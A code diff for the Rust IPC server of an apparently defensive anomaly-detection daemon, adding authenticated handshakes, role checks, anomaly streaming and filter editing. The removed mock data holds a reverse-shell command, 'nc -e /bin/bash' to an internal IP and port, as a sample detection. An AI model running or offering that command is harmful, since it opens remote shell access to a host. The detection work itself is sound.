@@ -1,23 +1,50 @@
 use std::fs;
+use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
+use tokio::io::AsyncReadExt;
 use tokio::net::{UnixListener, UnixStream};
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use sysrag_common::ipc::{DaemonRequest, DaemonResponse, AnomalyReport};
+use tokio::sync::broadcast::error::RecvError;
+use tokio::sync::{mpsc, oneshot, Mutex};
+use std::sync::Arc;
+use sysrag_common::frame::{read_frame, write_frame};
+use sysrag_common::ipc::{
+    AnomalyFilter, ClientHello, DaemonRequest, DaemonResponse, FilterDrops, ServerHello,
+    PROTOCOL_VERSION,
+};
 
-const SOCKET_PATH: &str = "/tmp/sysrag.sock"; // Use /var/run/sysrag.sock in production
+use crate::auth::{self, AccessPolicy, Caller};
+use crate::filters::KernelFilters;
+use crate::llm::LlmAnalyzer;
+use crate::rag::EngineCommand;
+use crate::state::DaemonState;
+
+/// Everything a connection handler needs, shared by all connections
+pub struct ServerContext {
+    pub state: Arc<DaemonState>,
+    pub analyzer: LlmAnalyzer,
+    pub access: AccessPolicy,
+    /// The sensor's exec filter maps, edited by `sysrag filter`. `None` when replaying a recording.
+    pub filters: Option<Mutex<KernelFilters>>,
+    /// Requests for the RAG engine, answered by the main loop
+    pub engine: mpsc::Sender<EngineCommand>,
+}
 
 /// Starts the IPC server in the background
-pub async fn start_ipc_server() {
+pub async fn start_ipc_server(socket_path: &Path, ctx: Arc<ServerContext>) {
     // 1. Clean up the old socket file if the daemon crashed previously
-    if Path::new(SOCKET_PATH).exists() {
-        fs::remove_file(SOCKET_PATH).expect("Failed to remove old socket file");
+    if socket_path.exists() {
+        fs::remove_file(socket_path).expect("Failed to remove old socket file");
     }
 
     // 2. Bind the listener to the socket path
-    let listener = UnixListener::bind(SOCKET_PATH)
+    let listener = UnixListener::bind(socket_path)
         .expect("Failed to bind to Unix Domain Socket");
+
+    // Anyone may connect; every caller is then authorized by its peer credentials
+    fs::set_permissions(socket_path, fs::Permissions::from_mode(0o666))
+        .expect("Failed to set socket permissions");
     
-    println!("IPC Server listening on {}", SOCKET_PATH);
+    println!("IPC Server listening on {}", socket_path.display());
 
     // 3. Enter the async infinite loop to accept connections
     loop {
@@ -25,8 +52,9 @@ pub async fn start_ipc_server() {
             Ok((stream, _addr)) => {
                 // Spawn a new asynchronous task for every CLI command received
                 // This ensures the daemon never blocks or slows down
+                let ctx = ctx.clone();
                 tokio::spawn(async move {
-                    handle_client(stream).await;
+                    handle_client(stream, ctx).await;
                 });
             }
             Err(e) => {
@@ -36,86 +64,254 @@ pub async fn start_ipc_server() {
     }
 }
 
-/// Handles a single connection from the `sysrag` CLI
-async fn handle_client(mut stream: UnixStream) {
-    let mut buffer = vec![0; 4096]; // 4KB buffer for incoming requests
-
-    // Read the incoming bytes from the CLI
-    match stream.read(&mut buffer).await {
-        Ok(size) if size > 0 => {
-            // Parse the raw bytes into our exact Rust Enum using Serde
-            let request_data = &buffer[..size];
-            match serde_json::from_slice::<DaemonRequest>(request_data) {
-                Ok(request) => {
-                    println!("Received request from CLI: {:?}", request);
-                    
-                    // Route the request and generate a response
-                    let response = process_request(request).await;
-                    
-                    // Serialize the response back to JSON and send it
-                    let response_bytes = serde_json::to_vec(&response).unwrap();
-                    if let Err(e) = stream.write_all(&response_bytes).await {
-                        eprintln!("Failed to send response to CLI: {}", e);
-                    }
-                }
-                Err(e) => {
-                    eprintln!("Failed to parse JSON from CLI: {}", e);
-                    let err_resp = DaemonResponse::Error("Invalid JSON payload".to_string());
-                    let _ = stream.write_all(&serde_json::to_vec(&err_resp).unwrap()).await;
-                }
+/// Handles a single connection from the `sysrag` CLI.
+/// After the version handshake the CLI may send any number of requests on the same connection.
+async fn handle_client(mut stream: UnixStream, ctx: Arc<ServerContext>) {
+    // 0. Ask the kernel who is calling
+    let caller = match Caller::from_stream(&stream) {
+        Ok(caller) => caller,
+        Err(e) => {
+            eprintln!("Rejected CLI connection without peer credentials: {}", e);
+            return;
+        }
+    };
+
+    // 1. The first frame must be the client's hello
+    let hello: ClientHello = match read_frame(&mut stream).await {
+        Ok(Some(hello)) => hello,
+        Ok(None) => return, // Connection closed before saying anything
+        Err(e) => {
+            eprintln!("Rejected CLI connection without a valid handshake: {}", e);
+            return;
+        }
+    };
+
+    if hello.protocol_version != PROTOCOL_VERSION {
+        eprintln!(
+            "Rejected CLI {} speaking protocol v{} (daemon speaks v{})",
+            hello.client_version, hello.protocol_version, PROTOCOL_VERSION
+        );
+        let reply = ServerHello::Rejected {
+            protocol_version: PROTOCOL_VERSION,
+            reason: format!(
+                "unsupported protocol version {}, upgrade the CLI and daemon to the same release",
+                hello.protocol_version
+            ),
+        };
+        let _ = write_frame(&mut stream, &reply).await;
+        return;
+    }
+
+    let Some(role) = ctx.access.role_for(&caller) else {
+        eprintln!("🔒 Access denied: {} has no role on the control socket", caller);
+        let reply = ServerHello::Rejected {
+            protocol_version: PROTOCOL_VERSION,
+            reason: format!("uid {} is not allowed to use sysragd", caller.uid),
+        };
+        let _ = write_frame(&mut stream, &reply).await;
+        return;
+    };
+
+    let reply = ServerHello::Accepted {
+        protocol_version: PROTOCOL_VERSION,
+        daemon_version: env!("CARGO_PKG_VERSION").to_string(),
+    };
+    if let Err(e) = write_frame(&mut stream, &reply).await {
+        eprintln!("Failed to complete handshake with CLI: {}", e);
+        return;
+    }
+
+    // 2. Serve request/response pairs until the CLI hangs up
+    loop {
+        let request = match read_frame::<_, DaemonRequest>(&mut stream).await {
+            Ok(Some(request)) => request,
+            Ok(None) => return,
+            Err(e) => {
+                eprintln!("Failed to read request from CLI: {}", e);
+                let err_resp = DaemonResponse::Error(format!("Invalid request frame: {}", e));
+                let _ = write_frame(&mut stream, &err_resp).await;
+                return;
             }
+        };
+
+        println!("Received request from CLI ({}, role {}): {:?}", caller, role, request);
+
+        let needed = auth::required_role(&request);
+        if role < needed {
+            eprintln!("🔒 Access denied: {} ({}) sent {:?}, which needs {}", caller, role, request, needed);
+            let err_resp = DaemonResponse::Error(format!(
+                "Permission denied: this request needs the {} role, you are {}",
+                needed, role
+            ));
+            if write_frame(&mut stream, &err_resp).await.is_err() {
+                return;
+            }
+            continue;
+        }
+
+        // Route the request and send the response back in its own frame.
+        // A subscription takes over the connection until the CLI goes away.
+        let response = match request {
+            DaemonRequest::Subscribe { filter } => {
+                stream_anomalies(stream, &ctx.state, filter).await;
+                return;
+            }
+            request => process_request(request, &ctx).await,
+        };
+        if let Err(e) = write_frame(&mut stream, &response).await {
+            eprintln!("Failed to send response to CLI: {}", e);
+            return;
+        }
+    }
+}
+
+/// Pushes every new anomaly matching `filter` to a `sysrag watch` client until it disconnects
+async fn stream_anomalies(mut stream: UnixStream, state: &DaemonState, filter: AnomalyFilter) {
+    let mut feed = state.subscribe_anomalies();
+    if write_frame(&mut stream, &DaemonResponse::Subscribed).await.is_err() {
+        return;
+    }
+
+    let (mut reader, mut writer) = stream.split();
+    let mut hangup_probe = [0u8; 1];
+
+    loop {
+        let response = tokio::select! {
+            // The CLI never sends anything while watching, so any read result means it's gone
+            _ = reader.read(&mut hangup_probe) => return,
+            received = feed.recv() => match received {
+                Ok(anomaly) if filter.matches(&anomaly) => DaemonResponse::Anomaly(Box::new(anomaly)),
+                Ok(_) => continue,
+                Err(RecvError::Lagged(missed)) => DaemonResponse::SubscriptionLagged { missed },
+                Err(RecvError::Closed) => return,
+            },
+        };
+
+        if write_frame(&mut writer, &response).await.is_err() {
+            return;
         }
-        _ => {} // Connection closed or empty
     }
 }
 
 /// The brain of the server: matches the CLI request to daemon logic
-async fn process_request(req: DaemonRequest) -> DaemonResponse {
+async fn process_request(req: DaemonRequest, ctx: &ServerContext) -> DaemonResponse {
+    let state = &ctx.state;
     match req {
-        DaemonRequest::Status => {
-            // In a real app, you would fetch these from an Arc<Mutex<AppState>>
-            DaemonResponse::StatusOk {
-                uptime_seconds: 3600,
-                events_processed: 15420,
-                db_size: 1024,
+        DaemonRequest::Status => DaemonResponse::StatusOk {
+            uptime_seconds: state.uptime_seconds(),
+            events_processed: state.events_processed(),
+            events_per_second: state.events_per_second(),
+            peak_events_per_second: state.peak_events_per_second(),
+            filter_drops: match &ctx.filters {
+                Some(filters) => filters.lock().await.drops().unwrap_or_else(|e| {
+                    eprintln!("⚠️ Failed to read filter drop counters: {:#}", e);
+                    FilterDrops::default()
+                }),
+                None => FilterDrops::default(),
+            },
+            sensor: state.sensor_stats().await,
+            anomalies_detected: state.anomalies_detected(),
+            db_size: state.baseline_size(),
+        },
+        DaemonRequest::GetAnomalies { tail, query } => match state.recent_anomalies(tail, &query).await {
+            Ok(anomalies) => DaemonResponse::AnomaliesList(anomalies),
+            Err(e) => DaemonResponse::Error(format!("Failed to read the anomaly history: {:#}", e)),
+        },
+        DaemonRequest::Investigate { id } => {
+            // 1. Look up the real anomaly the RAG loop recorded
+            let anomaly = match state.find_anomaly(&id).await {
+                Ok(Some(anomaly)) => anomaly,
+                Ok(None) => return DaemonResponse::Error(format!("No anomaly found with id {}", id)),
+                Err(e) => return DaemonResponse::Error(format!("Failed to read the anomaly history: {:#}", e)),
+            };
+
+            // 2. Hand it to the LLM for a plain-English explanation
+            match ctx.analyzer.analyze_anomaly(&anomaly).await {
+                Ok(analysis) => {
+                    // 3. Keep it, so the analysis is still there after a restart
+                    if let Err(e) = state.save_investigation(&id, &analysis).await {
+                        eprintln!("⚠️ Failed to store the investigation of {}: {:#}", id, e);
+                    }
+                    DaemonResponse::InvestigationResult(analysis)
+                }
+                Err(e) => DaemonResponse::Error(format!("LLM analysis failed: {:#}", e)),
             }
         }
-        DaemonRequest::GetAnomalies { tail } => {
-            // TODO: Fetch real anomalies from your VectorStore
-            println!("CLI asked for the last {} anomalies", tail);
-            
-            // Mocking a response for now to prove the IPC works
-            let mock_anomaly = AnomalyReport {
-                id: "uuid-1234-5678".to_string(),
-                timestamp: 1700000000,
-                pid: 1337,
-                command: "nc -e /bin/bash 10.0.0.5 4444".to_string(),
-                similarity_score: 0.12,
-                raw_log: "execve(/usr/bin/nc)".to_string(),
+        DaemonRequest::SetTriage { id, triage } => match state.set_triage(&id, triage).await {
+            Ok(true) => {
+                println!("🏷️ Anomaly {} triaged as {}", id, triage);
+                DaemonResponse::Triaged { id, triage }
+            }
+            Ok(false) => DaemonResponse::Error(format!("No anomaly found with id {}", id)),
+            Err(e) => DaemonResponse::Error(format!("Failed to update the anomaly history: {:#}", e)),
+        },
+        DaemonRequest::GetMode => match ask_engine(ctx, |reply| EngineCommand::GetMode { reply }).await {
+            Some(status) => DaemonResponse::Mode(status),
+            None => engine_stopped(),
+        },
+        DaemonRequest::SetMode { mode, learning_secs } => {
+            match ask_engine(ctx, |reply| EngineCommand::SetMode { mode, learning_secs, reply }).await {
+                Some(status) => DaemonResponse::Mode(status),
+                None => engine_stopped(),
+            }
+        }
+        DaemonRequest::Approve { id } => {
+            let anomaly = match state.find_anomaly(&id).await {
+                Ok(Some(anomaly)) => anomaly,
+                Ok(None) => return DaemonResponse::Error(format!("No anomaly found with id {}", id)),
+                Err(e) => return DaemonResponse::Error(format!("Failed to read the anomaly history: {:#}", e)),
             };
-            
-            DaemonResponse::AnomaliesList(vec![mock_anomaly])
+            let command = anomaly.command.clone();
+            let approval = ask_engine(ctx, |reply| EngineCommand::Approve { anomaly: Box::new(anomaly), reply }).await;
+            match approval {
+                Some(Ok(())) => DaemonResponse::Approved { id, command },
+                Some(Err(e)) => DaemonResponse::Error(format!("Failed to approve {}: {:#}", command, e)),
+                None => engine_stopped(),
+            }
         }
-        DaemonRequest::Investigate { id } => {
-    // 1. Instantiate our unused LLM Analyzer!
-    let analyzer = crate::llm::LlmAnalyzer::new();
-    
-    // 2. For the prototype, we will create a dummy AnomalyReport based on the ID 
-    // (In production, you would fetch this by ID from the `anomalies_store` in main.rs)
-    let context_anomaly = sysrag_common::ipc::AnomalyReport {
-        id: id.clone(),
-        timestamp: 1700000000,
-        pid: 1337,
-        command: "nc -e /bin/bash".to_string(),
-        similarity_score: 0.12,
-        raw_log: "execve: pid=1337 comm=nc".to_string(),
-    };
+        DaemonRequest::GetProcessTree { pid } => match state.process_tree(pid).await {
+            Some((ancestry, tree)) => DaemonResponse::ProcessTree { ancestry, tree },
+            None => DaemonResponse::Error(format!("No process with PID {} in the process table", pid)),
+        },
+        DaemonRequest::ListFilters | DaemonRequest::AddFilter { .. } | DaemonRequest::RemoveFilter { .. } => {
+            match &ctx.filters {
+                Some(filters) => update_filters(req, &mut *filters.lock().await),
+                None => DaemonResponse::Error("No kernel sensor is loaded (the daemon is replaying a recording)".to_string()),
+            }
+        }
+        DaemonRequest::Subscribe { .. } => {
+            // Subscriptions are streamed by `handle_client` and never reach this point
+            DaemonResponse::Error("Subscribe cannot be answered with a single response".to_string())
+        }
+    }
+}
 
-    // 3. Pass the anomaly to the analyzer (this removes the 'never used' warnings!)
-    let analysis_result = analyzer.analyze_anomaly(&context_anomaly).await
-        .unwrap_or_else(|_| "LLM Analysis failed.".to_string());
+/// Hands a command to the RAG engine and waits for its answer. `None` if the engine has stopped.
+async fn ask_engine<T>(
+    ctx: &ServerContext,
+    command: impl FnOnce(oneshot::Sender<T>) -> EngineCommand,
+) -> Option<T> {
+    let (reply, answer) = oneshot::channel();
+    ctx.engine.send(command(reply)).await.ok()?;
+    answer.await.ok()
+}
 
-    DaemonResponse::InvestigationResult(analysis_result)
-    }
+fn engine_stopped() -> DaemonResponse {
+    DaemonResponse::Error("The RAG engine has stopped (the event stream ended)".to_string())
+}
+
+/// Lists or edits the kernel exec filters
+fn update_filters(req: DaemonRequest, filters: &mut KernelFilters) -> DaemonResponse {
+    match req {
+        DaemonRequest::AddFilter { rule } => match filters.add(rule.clone()) {
+            Ok(()) => println!("🧹 Exec filter added: {}", rule),
+            Err(e) => return DaemonResponse::Error(format!("Failed to add filter: {:#}", e)),
+        },
+        DaemonRequest::RemoveFilter { rule } => match filters.remove(&rule) {
+            Ok(()) => println!("🧹 Exec filter removed: {}", rule),
+            Err(e) => return DaemonResponse::Error(format!("Failed to remove filter: {:#}", e)),
+        },
+        _ => {}
     }
-}
\ No newline at end of file
+    DaemonResponse::Filters(filters.rules())
+}